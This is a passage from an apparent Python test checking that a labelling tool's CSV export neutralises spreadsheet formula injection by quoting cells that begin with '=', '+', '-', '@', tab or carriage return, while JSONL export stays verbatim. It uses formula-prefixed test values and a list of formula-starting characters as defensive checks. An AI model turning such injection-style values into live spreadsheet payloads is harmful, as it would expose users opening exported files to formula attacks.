        s.save_label("=律师", item_id, LabelInput("tie", comment=comment), f"-sub-{item_id}")

    s.export(tmp_path / "labels.csv")
    with open(tmp_path / "labels.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    by_item = {r["item_id"]: r for r in rows}
    assert set(by_item) == {"'" + i if i.startswith("=") else i for i in item_ids}
    assert sorted(r["comment"] for r in rows) == sorted("'" + c for c in hostile.values())
    first = by_item["'=q1"]
    assert (first["question"], first["system_a"], first["system_b"], first["source"]) == (
        "'=问题",
        "'@sysA",
        "'\tsysB",
        "'\rsrc",
    )
    assert {r["annotator"] for r in rows} == {"'=律师"}
    assert all(r["submission_id"].startswith("'-sub-") for r in rows)
    for r in rows:  # no cell of any column starts a formula
        assert not [k for k, v in r.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")], r
    assert by_item["i0"]["rel_a"] == "" and by_item["i0"]["version"] == "1"  # numbers stay numbers

    s.export(tmp_path / "labels.jsonl", fmt="jsonl")  # JSONL is data, not a spreadsheet: verbatim
    back = [json.loads(line) for line in (tmp_path / "labels.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(r["comment"] for r in back) == sorted(hostile.values())
    assert {r["item_id"] for r in back} == set(item_ids) and {r["annotator"] for r in back} == {"=律师"}
    s.close()
